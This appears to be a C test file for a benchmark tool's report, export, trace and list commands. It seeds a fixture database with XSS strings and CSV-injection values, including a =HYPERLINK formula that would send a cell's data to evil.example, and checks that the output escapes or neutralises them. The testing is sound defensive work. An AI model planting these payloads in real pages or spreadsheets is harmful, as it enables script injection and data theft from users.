/* test_results.c - index.html, stale report files, several experiments in
 * one report, the run_summary views, export, trace and list --json, over
 * a fixture database whose strings carry HTML, JSON and CSV syntax.
 *
 * Commands are called in forked children (as test_report.c does) so
 * their output and exit codes are what a user sees; gnuplot is real.
 */
#define _GNU_SOURCE
#include <stdarg.h>
#include <sqlite3.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "err.h"
#include "escape.h"
#include "json_check.h"
#include "report.h"
#include "run_util.h"
#include "test.h"
#include "views.h"

#include "fixture_schema.h"

/* The planted strings: every HTML, JSON and CSV metacharacter. */
#define EVIL_NAME "x<script>alert(1)</script>\"&'"
#define EVIL_OPT "<img src=x onerror=alert(2)>&\"'"
#define EVIL_INFO "<script>document.title=1</script> & \"q\""
#define EVIL_CONFIG "name: x\n</pre><script>alert(3)</script>"
#define CSV_OPT "v2, \"q\"\r\nline2"

static char tmpdir[256], db_path[320];

static void cleanup(void) { ru_rm_rf(tmpdir); }

/* sqlite3_mprintf formats (%Q quotes a string, NULL as NULL). */
static int sqlf(sqlite3 *db, const char *fmt, ...) {
  va_list ap;
  char *err = NULL;
  va_start(ap, fmt);
  char *sql = sqlite3_vmprintf(fmt, ap);
  va_end(ap);
  int rc = sql && sqlite3_exec(db, sql, NULL, NULL, &err) == SQLITE_OK ? 0 : -1;
  if (rc) fprintf(stderr, "fixture SQL failed: %s: %s\n", err ? err : "?", sql ? sql : "");
  sqlite3_free(err);
  sqlite3_free(sql);
  return rc;
}

/* n steps of one rank from t0, every dt; phase durations c, m, w (0: none). */
static int steps(sqlite3 *db, int run, int rank, const char *role, int n, double t0,
                 double dt, double c, double m, double w, int stale) {
  for (int s = 0; s < n; s++)
    if (sqlf(db, "INSERT INTO steps VALUES(%d, %d, %Q, %d, 0, %.17g, %.17g, %.17g, %.17g,"
                 " %d, %d, %s, %s)",
             run, rank, role, s, t0 + dt * s, c, m, w, 1000 + 500 * rank, 800,
             strcmp(role, "server") ? "1.5" : "NULL", stale ? (s % 2 ? "1" : "0") : "NULL"))
      return -1;
  return 0;
}

static int make_fixture(const char *path) {
  sqlite3 *db = NULL;
  int rc = -1;
  unlink(path);
  if (sqlite3_open(path, &db) != SQLITE_OK || sqlf(db, "%s", SCHEMA) || sqlf(db, "BEGIN"))
    goto done;
  if (sqlf(db, "INSERT INTO experiments VALUES(1, %Q, %Q, '2024-01-01T00:00:00Z',"
               " 'h<o>st', '0.1'), (2, 'plain', 'name: plain', '2024-01-02T00:00:00Z',"
               " 'hostB', '0.1')", EVIL_NAME, EVIL_CONFIG))
    goto done;
  /* run 1: ps sync, run 2: ps ssp, each with the planted option */
  for (int r = 1; r <= 2; r++) {
    char opts[512];
    sqlite3_snprintf(sizeof opts, opts,
                     "{\"mode\": \"%s\", \"staleness\": 2, \"batch\": 10, \"lr\": 0.05,"
                     " \"evil\": %s}", "sync",
                     r == 1 ? "\"<img src=x onerror=alert(2)>&\\\"'\""
                            : "\"v2, \\\"q\\\"\\r\\nline2\"");
    if (sqlf(db, "INSERT INTO runs VALUES(%d, 1, 'ps', %Q, 'zmq', 'local', 2, 1, 3, 0, 1,"
                 " 'ok', NULL, 't', 't', 2.0)", r, opts) ||
        sqlf(db, "INSERT INTO evals VALUES(%d, 5, 0, 0.5, 100, 1, 1, 0.6),"
                 " (%d, 10, 0, 1.0, 200, 1, 1, %s)", r, r, r == 1 ? "0.9" : "0.8") ||
        steps(db, r, 0, "server", 10, 0, 0.01, 0.001, 0.002, 0, 0) ||
        steps(db, r, 1, "worker", 10, 0, 0.01, 0.004, 0.003, 0.001, r == 2) ||
        steps(db, r, 2, "worker", 10, 0.002, 0.01, 0.004, 0, 0.002, r == 2))
      goto done;
  }
  /* run 3: failed, its error with markup and a byte that is not UTF-8 */
  if (sqlf(db, "INSERT INTO runs VALUES(3, 1, 'allreduce', '{\"algorithm\": \"ring\","
               " \"batch\": 10, \"lr\": 0.05}', 'zmq', 'local', 2, 0, 2, 0, 1, 'failed',"
               " CAST(X'3c623e6261643c2f623e20ff' AS TEXT), 't', 't', 1.0)") ||
      sqlf(db, "INSERT INTO run_info VALUES(1, 'blas', %Q), (2, 'blas', %Q)", EVIL_INFO,
           EVIL_INFO) ||
      /* what rank 0 records first (sg_engine_label), and what the harness
       * records from the engine table for the views */
      sqlf(db, "INSERT INTO run_info VALUES(3, 'label', 'allreduce ring'),"
               " (1, 'label', 'ps sync'), (2, 'label', 'ps sync'), (4, 'label', 'local'),"
               " (4, 'engine.baseline', '1')") ||
      sqlf(db, "INSERT INTO ranks VALUES(1, 0, 'server', 'h', 1), (1, 1, 'worker', 'h', 2),"
               " (1, 2, 'worker', 'h', 3), (1, 3, 'worker', 'h', 4)"))
    goto done;
  /* experiment 2: one local run */
  if (sqlf(db, "INSERT INTO runs VALUES(4, 2, 'local', '{\"batch\": 10, \"lr\": 0.1}',"
               " 'zmq', 'local', 1, 0, 1, 0, 1, 'ok', NULL, 't', 't', 1.0)") ||
      sqlf(db, "INSERT INTO evals VALUES(4, 5, 0, 0.5, 50, 1, 1, 0.5),"
               " (4, 10, 0, 1.0, 100, 1, 1, 0.86)") ||
      steps(db, 4, 0, "worker", 10, 0, 0.02, 0.01, 0, 0, 0) || sqlf(db, "COMMIT"))
    goto done;
  rc = 0;
done:
  sqlite3_close(db);
  return rc;
}

static void setup(void) {
  if (*tmpdir) return;
  if (ru_mkdtemp(tmpdir, sizeof tmpdir, "results")) abort();
  atexit(cleanup);
  snprintf(db_path, sizeof db_path, "%s/fixture.db", tmpdir);
  if (make_fixture(db_path)) abort();
}

/* A CLI command in a forked child, in this directory (run_util.h: ru_call). */
#define run_cmd(cmd, out, ...) ru_call(cmd, NULL, out, __VA_ARGS__)

static char *file_in(const char *dir, const char *name) {
  char p[1024];
  snprintf(p, sizeof p, "%s/%s", dir, name);
  return ru_slurp(p, 1 << 22);
}

static int exists(const char *dir, const char *name) {
  char p[1024];
  struct stat sb;
  snprintf(p, sizeof p, "%s/%s", dir, name);
  return lstat(p, &sb) == 0;
}

/* Report experiment(s) into tmpdir/sub; index.html malloc'd, or NULL. */
static char *report_into(const char *sub, const char *e1, const char *e2) {
  char dir[512], *out = NULL;
  snprintf(dir, sizeof dir, "%s/%s", tmpdir, sub);
  int rc = e2 ? run_cmd(sg_cmd_report, &out, "report", e1, e2, "--db", db_path, "--out",
                        dir, NULL)
              : run_cmd(sg_cmd_report, &out, "report", e1, "--db", db_path, "--out", dir,
                        NULL);
  if (rc != 0) fprintf(stderr, "report exit %d: %s\n", rc, out ? out : "");
  free(out);
  return rc ? NULL : file_in(dir, "index.html");
}

/* ---- escaping ---------------------------------------------------------- */

static char *escaped(void (*fn)(FILE *, const char *), const char *s) {
  char *buf = NULL;
  size_t len = 0;
  FILE *f = open_memstream(&buf, &len);
  fn(f, s);
  fclose(f);
  return buf;
}

TEST(escape_writers) {
  char *s = escaped(sg_html_text, "<a href=\"x\">&'\x01\xff" "é\n");
  CHECK_STR_CONTAINS(s, "&lt;a href=&quot;x&quot;&gt;&amp;&#39;\xef\xbf\xbd\xef\xbf\xbd" "é\n");
  free(s);
  s = escaped(sg_json_str, "q\"b\\\n\t\x01<\xff" "é");
  CHECK(!strcmp(s, "\"q\\\"b\\\\\\n\\t\\u0001\\u003c\\ufffd" "é\""));
  CHECK(jc_valid(s, NULL));
  free(s);
  s = escaped(sg_csv_field, "a,b \"q\"\r\nz");
  CHECK(!strcmp(s, "\"a,b \"\"q\"\"\r\nz\""));
  free(s);
  s = escaped(sg_csv_field, "plain");
  CHECK(!strcmp(s, "plain"));
  free(s);
  char b[40];
  CHECK(!strcmp(sg_fmt_real(b, sizeof b, 0.1), "0.1"));
  CHECK(strtod(sg_fmt_real(b, sizeof b, 1.0 / 3), NULL) == 1.0 / 3);
}

TEST(json_check_can_fail) {
  CHECK(jc_valid("{\"a\": [1, -2.5e3, true, null, \"x\\u00e9\"]}", NULL));
  static const char *const bad[] = {"{\"a\": 1,}", "[1 2]", "\"tab\there\"", "{a: 1}",
                                    "\"\\x\"", "01", "[1]]", "\"\xff\"", "NaN", NULL};
  for (const char *const *b = bad; *b; b++) CHECK_MSG(!jc_valid(*b, NULL), "%s", *b);
}

/* ---- index.html -------------------------------------------------------- */

TEST(html_escapes_every_database_string) {
  setup();
  char *html = report_into("evil", "1", NULL);
  CHECK(html);
  /* the page's own script is the only script element; no planted tag
   * (script, img) survives as markup anywhere, SVGs included */
  CHECK_EQ_INT((int)jc_count(html, "<script"), 1);
  CHECK_STR_CONTAINS(html, "<script nonce=\"");
  CHECK_EQ_INT((int)jc_count(html, "<img"), 0);
  CHECK_EQ_INT((int)jc_count(html, "</pre><script"), 0);
  /* ... and each is shown as text */
  CHECK_STR_CONTAINS(html, "x&lt;script&gt;alert(1)&lt;/script&gt;&quot;&amp;&#39;");
  CHECK_STR_CONTAINS(html, "&lt;img src=x onerror=alert(2)&gt;&amp;&quot;&#39;");
  CHECK_STR_CONTAINS(html, "&lt;script&gt;document.title=1&lt;/script&gt; &amp; &quot;q&quot;");
  CHECK_STR_CONTAINS(html, "name: x\n&lt;/pre&gt;&lt;script&gt;alert(3)&lt;/script&gt;");
  CHECK_STR_CONTAINS(html, "h&lt;o&gt;st");
  CHECK_STR_CONTAINS(html, "&lt;b&gt;bad&lt;/b&gt; \xef\xbf\xbd"); /* not UTF-8: U+FFFD */
  /* the policy: nothing loads, only the nonce'd script runs */
  CHECK_STR_CONTAINS(html, "default-src 'none'");
  CHECK_STR_CONTAINS(html, "script-src 'nonce-");
  CHECK(!strstr(html, "http://") || strstr(html, "http://www.w3.org/"));
  CHECK(!strstr(html, "https://"));
  free(html);
}

TEST(html_has_tables_figures_environment_options) {
  setup();
  char *html = report_into("parts", "1", NULL), *p;
  CHECK(html);
  CHECK_STR_CONTAINS(html, "id=\"tbl-summary\"");
  CHECK_STR_CONTAINS(html, "id=\"tbl-runs\"");
  /* numbers carry sort keys: final accuracy 0.9 of run 1 */
  CHECK_STR_CONTAINS(html, "data-v=\"0.9\">0.9000</td>");
  /* every figure inline, its ids made unique, no XML prolog */
  long nsvg = jc_count(html, "<svg");
  CHECK(nsvg >= 4);
  CHECK_EQ_INT((int)jc_count(html, "<figure"), (int)nsvg);
  CHECK(!strstr(html, "<?xml"));
  CHECK(!strstr(html, "id='gpPt0'"));
  CHECK_STR_CONTAINS(html, "id='fig0-gpPt0'");
  CHECK_STR_CONTAINS(html, "id='fig1-gpPt0'");
  CHECK_STR_CONTAINS(html, "href='#fig1-gpPt");
  /* environment: host, version and run_info with its runs */
  CHECK((p = strstr(html, "id=\"environment\"")));
  CHECK_STR_CONTAINS(p, "<td>blas</td>");
  CHECK_STR_CONTAINS(p, "<td>1,2</td>");
  /* options: the differing keys, the same ones listed once */
  CHECK((p = strstr(html, "id=\"options\"")));
  CHECK_STR_CONTAINS(p, "<span><code>evil</code>=");
  CHECK_STR_CONTAINS(p, "<span><code>algorithm</code>=ring</span>");
  CHECK_STR_CONTAINS(p, "<code>lr</code> = <code>0.05</code>");
  CHECK(!strstr(p, "<span><code>lr</code>="));
  free(html);
}

TEST(report_of_several_experiments) {
  setup();
  char *html = report_into("multi", "1", "plain"), *md, dir[512];
  CHECK(html);
  CHECK_STR_CONTAINS(html, "Experiments x&lt;script&gt;");
  CHECK_STR_CONTAINS(html, "(id 1, 2)");
  CHECK_STR_CONTAINS(html, "<td class=\"lab\">plain: local</td>");
  free(html);
  snprintf(dir, sizeof dir, "%s/multi", tmpdir);
  CHECK((md = file_in(dir, "summary.md")));
  CHECK_STR_CONTAINS(md, "| plain: local | 1 | 1 | ok |");
  CHECK_STR_CONTAINS(md, "(ids 1, 2)");
  free(md);
  /* one experiment: labels as before, no prefix */
  CHECK((html = report_into("single", "plain", NULL)));
  CHECK_STR_CONTAINS(html, "<td>local</td>");
  CHECK(!strstr(html, "plain: local"));
  free(html);
  /* the same experiment twice is a mistake */
  char *out = NULL;
  CHECK_EQ_INT(run_cmd(sg_cmd_report, &out, "report", "2", "plain", "--db", db_path, "--out",
                       dir, NULL), 1);
  CHECK_STR_CONTAINS(out, "selected twice");
  free(out);
}

/* ---- stale files --------------------------------------------------------- */

TEST(report_dir_holds_only_what_the_last_report_drew) {
  char dir[512], p[1024], *out = NULL;
  setup();
  snprintf(dir, sizeof dir, "%s/stale", tmpdir);
  CHECK_EQ_INT(run_cmd(sg_cmd_report, &out, "report", "1", "--db", db_path, "--out", dir,
                       NULL), 0);
  free(out);
  /* experiment 1 has staleness and a time breakdown; experiment 2 not */
  CHECK(exists(dir, "staleness.png") && exists(dir, "staleness.gp") &&
        exists(dir, "staleness.tsv"));
  /* a user's own files, some with report extensions, one a link */
  static const char *const mine[] = {"mine.png", "notes.txt", "keep.gp", NULL};
  for (const char *const *m = mine; *m; m++) {
    snprintf(p, sizeof p, "%s/%s", dir, *m);
    CHECK(ru_write_file(p, "user data\n") == 0);
  }
  snprintf(p, sizeof p, "%s/outside.png", tmpdir);
  CHECK(ru_write_file(p, "outside\n") == 0);
  snprintf(p, sizeof p, "%s/link.png", dir);
  CHECK(symlink("../outside.png", p) == 0);
  /* a list that names them (and a path outside) removes none of them */
  snprintf(p, sizeof p, "%s/" SG_REPORT_MANIFEST, dir);
  char *list = ru_slurp(p, 1 << 16);
  CHECK(list);
  FILE *f = fopen(p, "a");
  CHECK(f);
  fputs("notes.txt\nlink.png\n../outside.png\n.hidden.png\n", f);
  fclose(f);
  free(list);

  CHECK_EQ_INT(run_cmd(sg_cmd_report, &out, "report", "plain", "--db", db_path, "--out", dir,
                       NULL), 0);
  CHECK_STR_CONTAINS(out, "removed");
  free(out);
  CHECK(!exists(dir, "staleness.png") && !exists(dir, "staleness.svg") &&
        !exists(dir, "staleness.gp") && !exists(dir, "staleness.tsv"));
  CHECK(exists(dir, "acc_vs_time.png") && exists(dir, "index.html") &&
        exists(dir, "summary.md"));
  for (const char *const *m = mine; *m; m++) CHECK_MSG(exists(dir, *m), "%s", *m);
  CHECK(exists(dir, "link.png"));
  CHECK(exists(tmpdir, "outside.png"));
  /* the new list is exactly what this report wrote */
  CHECK((list = ru_slurp(p, 1 << 16)));
  CHECK_STR_CONTAINS(list, "acc_vs_time.png\n");
  CHECK(!strstr(list, "staleness"));
  CHECK(!strstr(list, "notes.txt"));
  free(list);
}

/* ---- views --------------------------------------------------------------- */

static int near(double a, double b) {
  return (isnan(a) && isnan(b)) || fabs(a - b) <= 1e-9 * (1 + fabs(b));
}

/* run_summary agrees with the report's own numbers for every run. */
static void views_agree(sqlite3 *db) {
  sg_rset_t *s = NULL;
  sqlite3_stmt *st = NULL;
  for (int64_t exp = 1; exp <= 2; exp++) {
    CHECK_OK(sg_rset_load(db, exp, -1, 0.85, &s));
    CHECK(sqlite3_prepare_v2(db,
                             "SELECT variant, final_acc, time_to_acc_085_s, samples_per_s,"
                             " bytes_per_step, compute_s FROM run_summary WHERE run_id = ?1",
                             -1, &st, NULL) == SQLITE_OK);
    for (size_t i = 0; i < s->n; i++) {
      const sg_rrun_t *r = &s->runs[i];
      sqlite3_reset(st);
      sqlite3_bind_int64(st, 1, r->id);
      CHECK(sqlite3_step(st) == SQLITE_ROW);
      CHECK_MSG(!strcmp((const char *)sqlite3_column_text(st, 0), r->base), "run %lld",
                (long long)r->id);
      CHECK_MSG(near(sg_rdb_double(st, 1), r->final_acc), "run %lld", (long long)r->id);
      CHECK_MSG(near(sg_rdb_double(st, 2), r->t_target), "run %lld", (long long)r->id);
      CHECK_MSG(near(sg_rdb_double(st, 3), r->samples_per_s), "run %lld: %g vs %g",
                (long long)r->id, sg_rdb_double(st, 3), r->samples_per_s);
      CHECK_MSG(near(sg_rdb_double(st, 4), r->bytes_per_step), "run %lld", (long long)r->id);
      CHECK_MSG(near(sg_rdb_double(st, 5), r->compute_s), "run %lld", (long long)r->id);
    }
    sqlite3_finalize(st);
    st = NULL;
    sg_rset_destroy(&s);
  }
}

TEST(run_summary_view_matches_report) {
  char path[512];
  sqlite3 *db = NULL;
  setup();
  /* a fresh copy without views: a read-only connection gets TEMP ones */
  snprintf(path, sizeof path, "%s/views.db", tmpdir);
  CHECK(make_fixture(path) == 0);
  CHECK(sqlite3_open_v2(path, &db, SQLITE_OPEN_READONLY, NULL) == SQLITE_OK);
  CHECK_OK(sg_views_ready(db));
  views_agree(db);
  sqlite3_close(db);
  CHECK_EQ_INT((int)ru_db_int(path, "SELECT count(*) FROM sqlite_master WHERE type = 'view'"), 0);
  /* ensure: a file before schema version 5 (no kind) keeps no views
   * (readers get TEMP ones) until a run migrates it; migrated (kind
   * added as the recorder's migration does), the file gets them, once
   * (a second call writes nothing) */
  CHECK_OK(sg_views_ensure(path));
  CHECK_EQ_INT((int)ru_db_int(path, "SELECT count(*) FROM sqlite_master WHERE type = 'view'"), 0);
  CHECK(sqlite3_open(path, &db) == SQLITE_OK);
  CHECK(sqlite3_exec(db, "ALTER TABLE steps ADD COLUMN kind TEXT; ALTER TABLE ranks ADD COLUMN"
                         " kind TEXT; UPDATE steps SET kind = " SG_LEGACY_KIND_SQL ";",
                     NULL, NULL, NULL) == SQLITE_OK);
  sqlite3_close(db);
  CHECK_OK(sg_views_ensure(path));
  CHECK_EQ_INT((int)ru_db_int(path, "SELECT count(*) FROM sqlite_master WHERE type = 'view'"), 3);
  long long v = ru_db_int(path, "PRAGMA schema_version");
  CHECK_OK(sg_views_ensure(path));
  CHECK(ru_db_int(path, "PRAGMA schema_version") == v);
  CHECK(sqlite3_open_v2(path, &db, SQLITE_OPEN_READONLY, NULL) == SQLITE_OK);
  views_agree(db);
  sqlite3_close(db);
  /* hand-computed: run 1 (ps sync): workers' rows from step 5 (first eval
   * after training) on: 2 ranks * 5 rows * batch 10 over 0.05 (rank 1's
   * step 5) .. 0.098 (both ranks' step 9 ends); busiest rank: rank 2,
   * 2000 sent + 800 received */
  CHECK_NEAR(ru_db_int(path, "SELECT round(samples_per_s) FROM run_summary WHERE run_id = 1"),
             100.0 / 0.048, 1);
  CHECK_EQ_INT((int)ru_db_int(path, "SELECT bytes_per_step FROM run_summary WHERE run_id = 1"),
               2800);
  CHECK_EQ_INT((int)ru_db_int(path, "SELECT count(*) FROM run_summary WHERE"
                                    " variant = 'ps sync' AND final_acc IS NOT NULL"), 2);
}

/* ---- export, trace, list --json ------------------------------------------ */

TEST(export_csv_and_json) {
  char *out = NULL;
  setup();
  CHECK_EQ_INT(run_cmd(sg_cmd_export, &out, "export", "1", "--format", "csv", "--db",
                       db_path, NULL), 0);
  /* header, CRLF rows, the option JSON quoted with its quotes doubled */
  CHECK(!strncmp(out, "id,experiment_id,engine,options_json,", 37));
  CHECK_STR_CONTAINS(out, "\r\n1,1,ps,\"{\"\"mode\"\": \"\"sync\"\"");
  CHECK_EQ_INT((int)jc_count(out, "\r\n"), 4); /* header + 3 runs */
  free(out);
  CHECK_EQ_INT(run_cmd(sg_cmd_export, &out, "export", "1", "--format", "csv", "--table",
                       "run_summary", "--db", db_path, NULL), 0);
  CHECK_STR_CONTAINS(out, "variant");
  CHECK_STR_CONTAINS(out, ",ps sync,");
  free(out);
  /* the report's Summary is per variant: the per-run table is not called that */
  CHECK_EQ_INT(run_cmd(sg_cmd_export, &out, "export", "1", "--format", "csv", "--table",
                       "summary", "--db", db_path, NULL), 2);
  CHECK_STR_CONTAINS(out, "'summary' is called run_summary");
  free(out);
  /* JSON: valid although the error holds a byte that is not UTF-8 */
  CHECK_EQ_INT(run_cmd(sg_cmd_export, &out, "export", "1", "--format", "json", "--db",
                       db_path, NULL), 0);
  size_t at = 0;
  CHECK_MSG(jc_valid(out, &at), "invalid JSON at byte %zu", at);
  CHECK_STR_CONTAINS(out, "\"error\":\"\\u003cb\\u003ebad\\u003c/b\\u003e \\ufffd\"");
  CHECK_STR_CONTAINS(out, "\"wall_s\":2}");
  free(out);
  CHECK_EQ_INT(run_cmd(sg_cmd_export, &out, "export", "1", "--format", "json", "--table",
                       "steps", "--db", db_path, NULL), 0);
  CHECK(jc_valid(out, NULL));
  CHECK_EQ_INT((int)jc_count(out, "\"run_id\":"), 60);
  free(out);
  /* a file, and the errors */
  char path[512];
  snprintf(path, sizeof path, "%s/evals.csv", tmpdir);
  CHECK_EQ_INT(run_cmd(sg_cmd_export, &out, "export", "plain", "--format", "csv", "--table",
                       "evals", "--out", path, "--db", db_path, NULL), 0);
  CHECK_STR_CONTAINS(out, "2 evals rows of experiment 2");
  free(out);
  CHECK((out = ru_slurp(path, 1 << 16)));
  CHECK_STR_CONTAINS(out, "run_id,step,epoch,wall_s,samples,train_loss,test_loss,test_acc\r\n"
                          "4,5,0,0.5,50,1,1,0.5\r\n");
  free(out);
  CHECK_EQ_INT(run_cmd(sg_cmd_export, &out, "export", "--format", "xml", NULL), 2);
  CHECK_STR_CONTAINS(out, "'xml' is not a format");
  free(out);
  CHECK_EQ_INT(run_cmd(sg_cmd_export, &out, "export", "--format", "csv", "--table", "x",
                       NULL), 2);
  CHECK_STR_CONTAINS(out, "no table 'x'");
  free(out);
  CHECK_EQ_INT(run_cmd(sg_cmd_export, &out, "export", "nosuch", "--format", "csv", "--db",
                       db_path, NULL), 1);
  CHECK_STR_CONTAINS(out, "no experiment named 'nosuch'");
  free(out);
}

/* CSV injection: text cells starting with = + - @ TAB CR (after any spaces
 * or newlines) are written with
 * a leading ' (a spreadsheet then shows text, not a formula); numbers,
 * negative ones included, stay numbers. */
TEST(export_csv_neutralises_formula_cells) {
  char path[512], *out = NULL;
  sqlite3 *db = NULL;
  setup();
  snprintf(path, sizeof path, "%s/csvinj.db", tmpdir);
  CHECK(make_fixture(path) == 0);
  CHECK(sqlite3_open(path, &db) == SQLITE_OK);
  CHECK(sqlf(db, "UPDATE runs SET error = %Q WHERE id = 1",
             "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")") == 0);
  CHECK(sqlf(db, "UPDATE runs SET error = '+1+2', transport = '-3' WHERE id = 2") == 0);
  CHECK(sqlf(db, "UPDATE runs SET error = '@SUM(A1)', launcher = char(9) || '=1',"
                 " status = char(13) || '=2' WHERE id = 3") == 0);
  CHECK(sqlf(db, "UPDATE runs SET transport = ' =cmd', launcher = '  ' || char(10) || '+1'"
                 " WHERE id = 1") == 0); /* blanks before the formula */
  CHECK(sqlf(db, "UPDATE evals SET test_loss = -0.5 WHERE run_id = 1 AND step = 5") == 0);
  sqlite3_close(db);
  CHECK_EQ_INT(run_cmd(sg_cmd_export, &out, "export", "1", "--format", "csv", "--db", path,
                       NULL), 0);
  CHECK_STR_CONTAINS(out, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",");
  CHECK_STR_CONTAINS(out, ",\"'+1+2\",");
  CHECK_STR_CONTAINS(out, ",\"'-3\",");
  CHECK_STR_CONTAINS(out, ",\"'@SUM(A1)\",");
  CHECK_STR_CONTAINS(out, ",\"'\t=1\",");
  CHECK_STR_CONTAINS(out, ",\"'\r=2\",");
  CHECK_STR_CONTAINS(out, ",\"' =cmd\",");
  CHECK_STR_CONTAINS(out, ",\"'  \n+1\",");
  CHECK(!strstr(out, ", =") && !strstr(out, ",\" =") && !strstr(out, ",\"  \n+"));
  CHECK(!strstr(out, ",=") && !strstr(out, ",+") && !strstr(out, ",@") && !strstr(out, ",-3"));
  free(out);
  CHECK_EQ_INT(run_cmd(sg_cmd_export, &out, "export", "1", "--format", "csv", "--table",
                       "evals", "--db", path, NULL), 0);
  CHECK_STR_CONTAINS(out, "\r\n1,5,0,0.5,100,1,-0.5,0.6\r\n"); /* a number stays a number */
  free(out);
}

TEST(trace_tracks_and_slices) {
  char *out = NULL;
  setup();
  CHECK_EQ_INT(run_cmd(sg_cmd_trace, &out, "trace", "1", "--db", db_path, NULL), 0);
  size_t at = 0;
  CHECK_MSG(jc_valid(out, &at), "invalid JSON at byte %zu", at);
  /* one track per rank: ranks 0-2 have steps, rank 3 only a ranks row */
  CHECK_EQ_INT((int)jc_count(out, "\"name\":\"thread_name\""), 4);
  CHECK_STR_CONTAINS(out, "\"args\":{\"name\":\"rank 0 server\"}");
  CHECK_STR_CONTAINS(out, "\"args\":{\"name\":\"rank 2 worker\"}");
  CHECK_STR_CONTAINS(out, "\"args\":{\"name\":\"rank 3 worker\"}");
  /* slices = step rows x phases with a nonzero duration */
  long want = ru_db_int(db_path, "SELECT sum((compute_s > 0) + (comm_s > 0) + (wait_s > 0))"
                                 " FROM steps WHERE run_id = 1");
  CHECK_EQ_INT((int)want, 10 * 2 + 10 * 3 + 10 * 2);
  CHECK_EQ_INT((int)jc_count(out, "\"ph\":\"X\""), (int)want);
  /* rank 2's step 0 starts at 2 ms: compute 4 ms, then wait 2 ms (no comm) */
  CHECK_STR_CONTAINS(out, "\"name\":\"compute\",\"pid\":1,\"tid\":2,\"ts\":2000.000,\"dur\":4000.000");
  CHECK_STR_CONTAINS(out, "\"name\":\"wait\",\"pid\":1,\"tid\":2,\"ts\":6000.000,\"dur\":2000.000");
  /* the experiment's name, escaped */
  CHECK_STR_CONTAINS(out, "x\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\\\"\\u0026'");
  free(out);
  CHECK_EQ_INT(run_cmd(sg_cmd_trace, &out, "trace", "99", "--db", db_path, NULL), 1);
  CHECK_STR_CONTAINS(out, "no run with id 99");
  free(out);
  CHECK_EQ_INT(run_cmd(sg_cmd_trace, &out, "trace", NULL), 2);
  free(out);
}

/* A step whose start time is infinite (a rank's clock gone wrong; SQLite
 * keeps Inf in a REAL column): the slice was written as "ts":inf, which
 * is not JSON, so the trace did not load and the --html page drew
 * nothing.  Such a row has no place on the timeline: it is left out. */
TEST(trace_leaves_out_a_step_with_an_infinite_start) {
  char *out = NULL, path[512];
  sqlite3 *db = NULL;
  setup();
  snprintf(path, sizeof path, "%s/inf.db", tmpdir);
  CHECK(make_fixture(path) == 0);
  CHECK(sqlite3_open(path, &db) == SQLITE_OK);
  CHECK(sqlf(db, "UPDATE steps SET t_start = 1e999 WHERE run_id = 1 AND rank = 2 AND step = 0") == 0);
  CHECK(sqlf(db, "UPDATE steps SET t_start = 1e305 WHERE run_id = 1 AND rank = 2 AND step = 1") == 0);
  sqlite3_close(db);
  CHECK_EQ_INT(run_cmd(sg_cmd_trace, &out, "trace", "1", "--db", path, NULL), 0);
  size_t at = 0;
  CHECK_MSG(jc_valid(out, &at), "invalid JSON at byte %zu: %.40s", at, out + at);
  /* the two rows of rank 2 (compute and wait each) are gone, the rest stay */
  CHECK_EQ_INT((int)jc_count(out, "\"ph\":\"X\""), 10 * 2 + 10 * 3 + 10 * 2 - 4);
  free(out);
}

TEST(list_json_and_filter) {
  char *out = NULL;
  setup();
  CHECK_EQ_INT(run_cmd(sg_cmd_list, &out, "list", "--json", "--db", db_path, NULL), 0);
  size_t at = 0;
  CHECK_MSG(jc_valid(out, &at), "invalid JSON at byte %zu", at);
  CHECK_EQ_INT((int)jc_count(out, "\"bench_rows\":"), 2);
  /* the shortest form that reads back: 0.9, not 0.90000000000000002 */
  CHECK_STR_CONTAINS(out, "\"final_acc\":0.9,");
  CHECK(!strstr(out, "0000000"));
  free(out);
  /* --limit 1: the last experiment, and how many are hidden */
  CHECK_EQ_INT(run_cmd(sg_cmd_list, &out, "list", "--limit", "1", "--db", db_path, NULL), 0);
  CHECK_STR_CONTAINS(out, "experiment 2  plain");
  CHECK(!strstr(out, "experiment 1 "));
  CHECK_STR_CONTAINS(out, "(1 older experiment hidden: --limit 0 lists all)");
  free(out);
  CHECK_EQ_INT(run_cmd(sg_cmd_list, &out, "list", "--limit=0", "--db", db_path, NULL), 0);
  CHECK_STR_CONTAINS(out, "experiment 1 ");
  CHECK(!strstr(out, "hidden"));
  free(out);
  CHECK_EQ_INT(run_cmd(sg_cmd_list, &out, "list", "--limit", "-3", "--db", db_path, NULL), 2);
  CHECK_STR_CONTAINS(out, "--limit: expected a count >= 0, got '-3'");
  free(out);
  CHECK_EQ_INT(run_cmd(sg_cmd_list, &out, "list", "lai", "--db", db_path, NULL), 0);
  CHECK_STR_CONTAINS(out, "experiment 2  plain");
  CHECK(!strstr(out, "experiment 1"));
  free(out);
  /* plain text, not a pattern: % matches nothing here */
  CHECK_EQ_INT(run_cmd(sg_cmd_list, &out, "list", "%", "--json", "--db", db_path, NULL), 0);
  CHECK(!strcmp(out, "[\n]\n"));
  free(out);
}
